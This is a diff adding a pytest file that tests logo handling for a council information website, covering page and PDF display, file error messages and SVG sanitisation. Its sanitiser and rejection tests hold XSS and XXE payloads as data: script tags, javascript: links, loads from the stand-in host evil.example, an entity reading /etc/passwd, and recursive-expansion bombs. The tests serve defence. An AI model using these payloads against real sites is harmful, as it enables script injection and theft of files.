@@ -1,0 +1,297 @@
+"""The council's logo: shown on pages and papers once the edition is adopted, or one message at its line.
+
+Nothing in it is run, fetched or read as anything but a picture.
+"""
+
+from __future__ import annotations
+
+import io
+import struct
+import zlib
+from pathlib import Path
+from xml.etree import ElementTree
+
+import pikepdf
+import pytest
+
+from localoffer import road
+from localoffer.papers.picture import weight_on_paper
+from localoffer.papers.typeset import set_paper
+from localoffer.problems import Level
+from localoffer.records.files import SITE_FILE
+from localoffer.records.logo import MOST_BYTES, NotALogo, read_logo
+from localoffer.web.theme import load_theme
+from tests.council import AS_OF, change, outcome
+
+SVG = "http://www.w3.org/2000/svg"
+
+
+def png(wide: int = 200, high: int = 80) -> bytes:
+    """A grey picture."""
+
+    def chunk(kind: bytes, held: bytes) -> bytes:
+        return struct.pack(">I", len(held)) + kind + held + struct.pack(">I", zlib.crc32(kind + held))
+
+    rows = (b"\0" + b"\x80" * wide) * high
+    return b"".join(
+        (
+            b"\x89PNG\r\n\x1a\n",
+            chunk(b"IHDR", struct.pack(">IIBBBBB", wide, high, 8, 0, 0, 0, 0)),
+            chunk(b"IDAT", zlib.compress(rows)),
+            chunk(b"IEND", b""),
+        )
+    )
+
+
+def jpeg(wide: int, high: int) -> bytes:
+    """As much of one as says how large it is."""
+    return (
+        b"\xff\xd8\xff\xe0\0\x10"
+        + bytes(14)
+        + b"\xff\xc0\0\x11\x08"
+        + struct.pack(">HH", high, wide)
+        + bytes(12)
+    )
+
+
+def svg(inside: str = '<path d="M0 0h30v12z"/>', more: str = 'viewBox="0 0 30 12"') -> bytes:
+    return f'<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" {more}>{inside}</svg>'.encode()
+
+
+def with_logo(good: Path, name: str, content: bytes) -> int:
+    """An adopted council with a logo. Returns the line that names it."""
+    change(good, SITE_FILE, "adopted: no", "adopted: yes")
+    (good / "content" / name).write_bytes(content)
+    return change(good, SITE_FILE, "colours:", f"logo: {name}\ncolours:")
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "shown"),
+    [
+        ("logo.png", png(), 'width="100" height="40"'),
+        ("Crest.PNG", png(40, 80), 'width="20" height="40"'),
+        ("logo.svg", svg(), 'width="100" height="40"'),
+    ],
+    ids=["png", "capitals", "svg"],
+)
+def test_a_logo_stands_on_every_page_with_its_size_and_the_councils_name(
+    good: Path, name: str, content: bytes, shown: str
+) -> None:
+    with_logo(good, name, content)
+    made = outcome(good)
+    (asset,) = (path for path in made.documents if path.startswith("assets/logo."))
+    assert (
+        f'<img src="../{asset}" alt="Exampleton Borough Council" {shown}>'.encode()
+        in made.documents["help-now/index.html"]
+    )
+    for page in made.pages:
+        assert (
+            b"<img "
+            in made.documents[page.address.lstrip("/") + ("index.html" if page.address.endswith("/") else "")]
+            or page.alone
+        )
+
+
+def test_nobody_sees_a_logo_before_the_council_stands_behind_the_edition(good: Path) -> None:
+    with_logo(good, "logo.png", png())
+    change(good, SITE_FILE, "adopted: yes", "adopted: no")
+    assert not any(
+        b"<img " in content for name, content in outcome(good).documents.items() if name.endswith(".html")
+    )
+
+
+def test_sheets_posters_and_the_strategy_have_the_logo_with_the_councils_name_for_who_hears_them(
+    good: Path,
+) -> None:
+    with_logo(good, "logo.png", png())
+    made, theme = outcome(good), load_theme(road.TEMPLATES)
+    assert made.plan
+    assert made.shown
+    papers = {paper.template: paper for paper in made.plan.papers}
+    for template in (
+        "entitlement.typ",
+        "outcome.typ",
+        "on-a-page.typ",
+        "poster-offer.typ",
+        "poster-you-said.typ",
+    ):
+        printed = set_paper(papers[template], made.shown.library, made.plan.chrome, theme)
+        with pikepdf.open(io.BytesIO(printed.content)) as pdf:
+            told = [
+                str(item["/Alt"])
+                for item in pdf.objects
+                if isinstance(item, pikepdf.Dictionary) and item.get("/S") == "/Figure" and "/Alt" in item
+            ]
+        assert "Exampleton Borough Council" in told, template
+
+
+@pytest.mark.parametrize(
+    ("name", "message"),
+    [
+        ("crest-2.png", "There is no file “crest-2.png” in content/."),
+        ("../logo.png", "The name of the file is needed alone, and the file stands in content/ itself."),
+        ("content/logo.png", "The name of the file is needed alone, and the file stands in content/ itself."),
+        ("LOGO.png", "There is no file “LOGO.png” in content/. The closest is “logo.png”."),
+        ("logo.gif", "A logo is an SVG, PNG or JPEG."),
+        ("folder.png", "A folder stands where a file should be."),
+        ("link.png", "This is a link to a file outside the folder."),
+        ("dead.png", "This is a link to a file that is not there."),
+        ("empty.png", "The file is empty."),
+        ("large.png", f"The file has more than {MOST_BYTES // 1000} KB, and every page shows it."),
+        ("words.png", "The file is no PNG, whatever its name says."),
+        ("cut.png", "The picture cannot be drawn: the file is damaged or cut off."),
+        ("wide.png", "The picture has 2,000 by 600 pixels, and 1,000,000 are the most."),
+        ("strip.png", "The picture is a strip: the top of a page on a phone has no room for it."),
+        ("words.svg", "It is no SVG that can be read, line 1."),
+    ],
+)
+def test_what_cannot_be_the_logo_is_one_message_at_its_line(
+    good: Path, tmp_path: Path, name: str, message: str
+) -> None:
+    content = good / "content"
+    (tmp_path / "elsewhere.png").write_bytes(png())
+    line = with_logo(good, "logo.png", png())
+    (content / "folder.png").mkdir()
+    (content / "link.png").symlink_to(tmp_path / "elsewhere.png")
+    (content / "dead.png").symlink_to(content / "nothing.png")
+    for other, bytes_ in {
+        "empty.png": b"",
+        "large.png": png() + bytes(MOST_BYTES),
+        "words.png": b"<svg onload='alert(1)'>",
+        "words.svg": b"no drawing",
+        "cut.png": png()[:-40],
+        "wide.png": png(2000, 600),
+        "strip.png": png(500, 20),
+    }.items():
+        (content / other).write_bytes(bytes_)
+    change(good, SITE_FILE, "logo: logo.png", f"logo: {name}")
+    problems = road.documents(good, AS_OF, root=good, national=good / "national").problems
+    assert [
+        (problem.mark.file, problem.mark.line, problem.rule, problem.message)
+        for problem in problems
+        if problem.level is Level.ERROR
+    ] == [(SITE_FILE, line, "logo-there", message)]
+
+
+EVIL = "https://evil.example/"
+
+
+@pytest.mark.parametrize(
+    "inside",
+    [
+        "<script>alert(1)</script>",
+        '<script xlink:href="https://evil.example/x.js"/>',
+        '<rect onclick="alert(1)" onload="alert(1)" width="1" height="1"/>',
+        '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject>',
+        '<a xlink:href="javascript:alert(1)"><rect width="1" height="1"/></a>',
+        '<use href="https://evil.example/x.svg#a"/>',
+        '<use xlink:href="data:image/svg+xml;base64,AAAA#a"/>',
+        '<style>@import "https://evil.example/x.css"; @font-face{src:url(https://evil.example/f)} rect{fill:red}</style>',
+        "<style>rect{background:url('https://evil.example/x')} a{fill:u\\72l(https://evil.example/)}</style>",
+        "<style>/* { */ rect{fill:url(https://evil.example/#a)} /* } */</style>",
+        '<rect style="fill:url(https://evil.example/#a)" width="1" height="1"/>',
+        '<rect fill="url(https://evil.example/#a)" width="1" height="1"/>',
+        '<rect style="background-image:url(https://evil.example/)" width="1" height="1"/>',
+        '<set attributeName="href" to="javascript:alert(1)"/><animate attributeName="fill"/>',
+        '<metadata><x xmlns="urn:x">alert(1)</x></metadata><title>alert(1)</title><!-- alert(1) -->',
+        '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
+        '<?xml-stylesheet href="https://evil.example/x.css"?>',
+        '<h:g xmlns:h="http://www.w3.org/1999/xhtml"><rect width="1" height="1"/></h:g>',
+        "<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>",
+    ],
+)
+def test_nothing_of_a_drawing_is_left_that_runs_or_leads_elsewhere(inside: str) -> None:
+    drawing = read_logo("logo.svg", svg(inside + '<path d="M0 0h30v12z" fill="#123"/>')).content.decode()
+    assert 'd="M0 0h30v12z" fill="#123"' in drawing
+    for part in (
+        "script",
+        "alert",
+        "evil",
+        "javascript",
+        "data:",
+        "@",
+        "\\",
+        "<!--",
+        "foreignObject",
+        "iframe",
+        "set ",
+        "<?",
+        " on",
+    ):
+        assert part not in drawing, part
+    for element in ElementTree.fromstring(drawing).iter():
+        assert element.tag.startswith(f"{{{SVG}}}")
+        assert all(not value or "url" not in value or "url(#" in value for value in element.attrib.values())
+
+
+def test_a_drawing_from_illustrator_keeps_its_colours_and_its_cuts() -> None:
+    inside = (
+        '<style type="text/css">\n\t.st0{fill:#00573F;}\n\t.st1{fill:url(#g);clip-path:url(#c)}\n</style>'
+        '<defs><linearGradient id="g"><stop offset="0" style="stop-color:#FFCC00"/></linearGradient><rect id="r" width="9" height="9"/></defs>'
+        '<clipPath id="c"><use xlink:href="#r" style="overflow:visible"/></clipPath>'
+        '<switch><foreignObject requiredExtensions="x"/><g style="clip-path:url(#c)"><rect class="st0" width="9" height="9"/></g></switch>'
+    )
+    document = b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
+    logo = read_logo("logo.svg", document + svg(inside, 'viewBox="0 0 300 120" width="100%"'))
+    drawing = logo.content.decode()
+    assert ".st0{fill:#00573F}.st1{fill:url(#g)}" in drawing
+    assert '<use href="#r"' in drawing
+    assert '<g style="clip-path:url(#c)"><rect class="st0"' in drawing
+    assert "DOCTYPE" not in drawing
+    assert (logo.wide, logo.high) == (300, 120)
+    assert weight_on_paper(logo)
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (
+            b'<!DOCTYPE svg [<!ENTITY a "b">]>' + svg(),
+            "It defines entities, which can make a small file a huge one.",
+        ),
+        (
+            b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + svg(),
+            "It defines entities, which can make a small file a huge one.",
+        ),
+        (
+            b'<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/">]>' + svg(),
+            "It defines entities, which can make a small file a huge one.",
+        ),
+        (svg("<text>Council</text>"), "It has letters that each computer draws in its own type."),
+        (svg('<image href="data:image/png;base64,AAAA"/>'), "It has another picture."),
+        (svg("<script/>"), "Nothing is drawn in it."),
+        (svg(more=""), "It does not say how large it is: neither viewBox nor width and height."),
+        (
+            svg(more='width="100%" height="100%"'),
+            "It does not say how large it is: neither viewBox nor width and height.",
+        ),
+        (
+            svg(more='viewBox="0 0 0 0"'),
+            "It does not say how large it is: neither viewBox nor width and height.",
+        ),
+        (b"<html><path d='M0 0'/></html>", "Nothing is drawn in it."),
+        (b"<g><path d='M0 0'/></g>", "It is another kind of file."),
+        (svg("<g>" * 5000 + "</g>" * 5000), "Its parts stand within each other more than 60 deep."),
+        (svg('<g id="a"><path d="M0 0"/><use href="#a"/></g>'), "It draws its parts over and over."),
+        (
+            svg(
+                '<path id="a0" d="M0 0h9"/>'
+                + "".join(f'<g id="a{n + 1}">' + f'<use href="#a{n}"/>' * 9 + "</g>" for n in range(20))
+            ),
+            "It draws its parts over and over.",
+        ),
+        (svg("<!-- £ -->").replace("£".encode(), b"\xa3"), "It is no SVG that can be read, line 1."),
+        (b'<?xml version="1.0" encoding="nonsense"?>' + svg(), "It is no SVG that can be read."),
+    ],
+)
+def test_a_drawing_that_cannot_be_made_safe_and_look_the_same_is_told_why(
+    content: bytes, message: str
+) -> None:
+    with pytest.raises(NotALogo) as told:
+        read_logo("logo.svg", content)
+    assert told.value.message == message
+
+
+def test_a_photograph_is_measured_by_its_first_frame() -> None:
+    logo = read_logo("logo.jpg", jpeg(300, 100))
+    assert (logo.wide, logo.high, logo.width) == (300, 100, 120)
